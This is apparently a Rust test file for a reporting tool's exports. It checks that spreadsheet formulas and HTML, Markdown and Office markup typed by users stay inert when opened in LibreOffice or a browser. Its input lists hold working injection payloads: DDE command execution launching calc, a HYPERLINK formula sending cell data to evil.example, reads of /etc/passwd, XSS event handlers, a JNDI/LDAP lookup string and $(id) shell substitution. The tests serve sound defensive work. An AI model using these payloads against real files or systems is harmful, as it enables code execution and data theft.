//! Texts that a spreadsheet would reckon with and markup that a page or a document would act on: opened by programs that are not ours.

use std::fs;
use std::path::Path;

use crate::programs::{office, run};
use crate::run::Fresh;

const FORMULAS: [&str; 14] = [
    "=1+41",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"点此\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "+1+41",
    "-1+41",
    "@SUM(1,41)",
    "\t=1+41",
    "\r=1+41",
    "\n=1+41",
    " =1+41",
    "＝1+41",
    "＋1+41",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
];

/// A ledger with a filing on one task for each text, in each of its three fields; and the tasks' keys.
fn filed<'t>(texts: &[&'t str]) -> (Fresh, Vec<(String, &'t str)>) {
    let fresh = Fresh::new();
    let tasks = fresh.json(["list", "--json"]);
    let keys = tasks.as_array().unwrap().iter().map(|task| task["key"].as_str().unwrap().to_owned());
    let filed: Vec<(String, &str)> = keys.zip(texts.iter().copied()).collect();
    for (key, text) in &filed {
        let words = ["--progress", text, "--problems", text, "--next", text];
        fresh.ok(["file", key, "--period", "2024Q3", "--percent", "3"].iter().chain(&words));
    }
    (fresh, filed)
}

/// Formulas in what is filed, and in steps, notes and names.
fn ledger() -> Fresh {
    let (fresh, filed) = filed(&FORMULAS);
    for (key, formula) in filed {
        fresh.ok(["step", &key, "--add", formula, "--unit", "市财政局"]);
        fresh.ok(["chase", &key, "--period", "2024Q3", "--note", formula]);
    }
    fresh.ok(["unit", "市财政局", "--to", "=1+41", "--since", "2024-01-01"]);
    fresh.ok(["leader", "徐张艳", "--to", "@SUM(1,41)", "--since", "2024-01-01"]);
    fresh
}

/// What LibreOffice makes of a file: each cell with its kind and formula, as its own flat XML.
fn opened(file: &Path) -> Option<String> {
    office(file, "fods").map(|file| fs::read_to_string(file).unwrap())
}

#[test]
fn no_cell_of_any_table_is_a_formula_to_libreoffice() {
    let fresh = ledger();
    let mut files = Vec::new();
    for (name, args) in [
        ("list.csv", &["list", "--format", "csv"][..]),
        ("who.csv", &["who", "=1", "--format", "csv"]),
        ("step.csv", &["step", "--format", "csv"]),
        ("log.csv", &["log", "--format", "csv"]),
    ] {
        let ran = fresh.run(args.iter().copied());
        fs::write(fresh.home().join(name), ran.out).unwrap();
        files.push(name.to_owned());
    }
    for kind in ["bulletin", "page", "slips", "breakdown", "matrix", "changes"] {
        for format in ["csv", "xlsx"] {
            let name = format!("{kind}.{format}");
            let more: &[&str] = if kind == "slips" { &["--items", "T1,T2,T3,T4,T5"] } else { &[] };
            fresh.ok(["report", "2024Q3", kind, "-o", &name].iter().chain(more));
            files.push(name);
        }
    }
    fresh.ok(["forms", "out", "2024Q3", "forms"]);
    let form = fs::read_dir(fresh.home().join("forms")).unwrap().next().unwrap().unwrap().path();
    fs::copy(form, fresh.home().join("form.xlsx")).unwrap();
    fresh.ok(["export", "out"]);
    fs::copy(fresh.home().join("out/csv/tasks.csv"), fresh.home().join("export.csv")).unwrap();
    files.extend(["export.csv".to_owned()]);
    let mut seen = 0;
    for name in &files {
        let Some(cells) = opened(&fresh.home().join(name)) else { return };
        assert!(
            !cells.contains("table:formula"),
            "{name}: {:?}",
            cells.split("table:formula").nth(1).map(|rest| &rest[..80.min(rest.len())])
        );
        assert!(!cells.contains("dde-link"), "{name}");
        seen += cells.matches("1+41").count();
        let name = fresh.home().join(name).with_extension("fods");
        fs::remove_file(name).unwrap();
    }
    assert!(seen > 50, "the texts are there as texts: {seen}");
    // Our own forms have formulas of our own making; what units typed is none of them.
    let cells = opened(&fresh.home().join("form.xlsx")).unwrap();
    for formula in cells.split("table:formula=\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
        assert!(!formula.contains("41") && !formula.contains("cmd") && !formula.contains("DDE"), "{formula}");
    }
}

/// That LibreOffice would have reckoned, had it been let.
#[test]
fn the_same_texts_unguarded_are_formulas() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("bare.csv");
    fs::write(&file, "=1+41\n").unwrap();
    let Some(cells) = opened(&file) else { return };
    assert!(cells.contains("table:formula"), "{cells}");
}

const MARKUP: [&str; 10] = [
    "<script>document.title='恶'</script>",
    "\"><img src=x onerror=\"document.title='恶'\">",
    "' onmouseover='document.title=1",
    "</title><script>1</script>",
    "<!--",
    "]]></w:t></w:r></w:p><w:p><w:fldSimple w:instr=\"DDEAUTO c:\\\\x\"/>",
    "</t></is></c><c r=\"A1\"><f>1+41</f></c>",
    "[点此](javascript:alert(1)) ![图](http://evil.example/x.png)",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "{{7*7}} ${jndi:ldap://x} \\input{/etc/passwd} `id` $(id)",
];

fn marked() -> Fresh {
    let (fresh, _) = filed(&MARKUP);
    let all = MARKUP.concat();
    fresh.ok([
        "bulletin",
        "2024Q3",
        "--name",
        &all,
        "--number",
        &all,
        "--title",
        &all,
        "--to",
        &all,
        "--opening",
        &all,
        "--next",
        &all,
        "--signature",
        &all,
        "--note",
        &all,
        "--copied-to",
        &all,
        "--printed-by",
        &all,
    ]);
    fresh.ok(["unit", "市财政局", "--to", MARKUP[0], "--since", "2024-01-01"]);
    fresh
}

#[test]
fn no_markup_of_a_text_acts_in_a_page() {
    let fresh = marked();
    for kind in ["bulletin", "page", "breakdown", "matrix", "changes"] {
        let name = format!("{kind}.html");
        fresh.ok(["report", "2024Q3", kind, "-o", &name]);
        let file = fresh.home().join(&name);
        let page = fs::read_to_string(&file).unwrap().to_lowercase();
        for tag in ["<script", "<img", "<iframe", "<object", "<link", "<base", "<form", "<a ", "<!--", "javascript:\""]
        {
            assert!(!page.contains(tag), "{name}: {tag}");
        }
        // As a browser sees it after it ran what it would run.
        let profile = format!("--user-data-dir={}", fresh.home().join("profile").display());
        let address = format!("file://{}", file.display());
        let flags = ["--headless", "--no-sandbox", "--disable-gpu", &profile, "--dump-dom", &address];
        let Some(output) = run("chromium", &flags) else { return };
        let dom = String::from_utf8_lossy(&output.stdout).to_lowercase();
        assert!(dom.contains("&lt;script&gt;") || kind == "matrix", "{name}: the text is there as text");
        assert!(!dom.contains("<script") && !dom.contains("<img") && !dom.contains("<title>恶</title>"), "{name}");
        for tag in dom.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or("")) {
            assert!(!tag.contains(" onerror=") && !tag.contains(" onmouseover="), "{name}: <{tag}>");
        }
    }
}

#[test]
fn no_markup_of_a_text_acts_in_markdown() {
    let fresh = marked();
    for kind in ["bulletin", "page", "breakdown", "changes"] {
        let text = fresh.ok(["report", "2024Q3", kind, "--format", "md"]);
        let bare = text
            .replace("<br>", "")
            .replace("\\\\", "")
            .replace("\\[", "")
            .replace("\\]", "")
            .replace("\\!", "")
            .replace("\\`", "");
        for acts in ["<", "](", "![", "`"] {
            assert!(
                !bare.contains(acts),
                "{kind}: {acts}: {:?}",
                bare.split(acts).nth(1).map(|rest| rest.chars().take(40).collect::<String>())
            );
        }
    }
}

#[test]
fn no_markup_of_a_text_acts_in_a_document_or_workbook() {
    use std::io::Read as _;
    let fresh = marked();
    for (kind, format) in [("bulletin", "docx"), ("page", "docx"), ("bulletin", "xlsx"), ("page", "xlsx")] {
        let name = format!("{kind}.{format}");
        fresh.ok(["report", "2024Q3", kind, "-o", &name]);
        let file = fresh.home().join(&name);
        let mut package = zip::ZipArchive::new(fs::File::open(&file).unwrap()).unwrap();
        for at in 0..package.len() {
            let mut text = String::new();
            let mut part = package.by_index(at).unwrap();
            if part.read_to_string(&mut text).is_err() {
                continue;
            }
            for acts in
                ["<w:fldSimple w:instr=\"DDE", "<f>1+41", "<script", "TargetMode=\"External\"", "<!DOCTYPE", "<!ENTITY"]
            {
                assert!(!text.contains(acts), "{name} {}: {acts}", part.name().unwrap());
            }
        }
        let to = if format == "docx" { "txt:Text (encoded):UTF8" } else { "fods" };
        let Some(read) = office(&file, to) else { return };
        let text = fs::read_to_string(read).unwrap();
        assert!(
            text.replace("&lt;", "<").replace("&gt;", ">").contains("<script>"),
            "{name}: the text is there as text"
        );
    }
}
